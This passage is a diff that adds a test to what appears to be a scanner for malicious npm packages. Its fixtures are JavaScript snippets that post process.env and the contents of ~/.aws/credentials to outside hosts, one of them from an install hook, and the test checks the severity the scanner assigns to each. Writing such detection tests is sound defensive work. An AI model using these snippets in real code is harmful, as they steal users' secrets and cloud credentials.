@@ -49,6 +49,22 @@ req.end();
     expect(f.evidence.sink).toMatchObject({ line: 3 });
   });
 
+  it('the whole environment or a credential file sent to an ordinary host by an install hook is high; the file sent from a function a caller calls is medium at most', () => {
+    const env = scan({ 'index.js': `const req = require('https').request('https://stats.example.net/i', { method: 'POST' });\nreq.end(JSON.stringify(process.env));\n` }, postinstall);
+    expect(env.ids).toContain('exfiltration/flow');
+    expect(['high', 'critical']).toContain(env.level);
+    const aws = `const fs = require('fs'), os = require('os'), axios = require('axios');
+fs.readFile(os.homedir() + '/.aws/credentials', 'utf8', (err, text) => { if (!err) axios.post('https://api.example.com/data', text); });
+`;
+    const atInstall = scan({ 'index.js': aws }, postinstall);
+    expect(['high', 'critical']).toContain(atInstall.level);
+    const onCall = scan({ 'index.js': `const fs = require('fs'), os = require('os'), axios = require('axios');
+exports.sync = function sync() { axios.post('https://api.example.com/data', fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8')); };
+` });
+    expect(onCall.ids).toContain('exfiltration/flow');
+    expect(['low', 'medium']).toContain(onCall.level);
+  });
+
   it('host identity leaked as DNS labels at install is high', () => {
     const r = scan({
       'index.js': `const os = require('os');
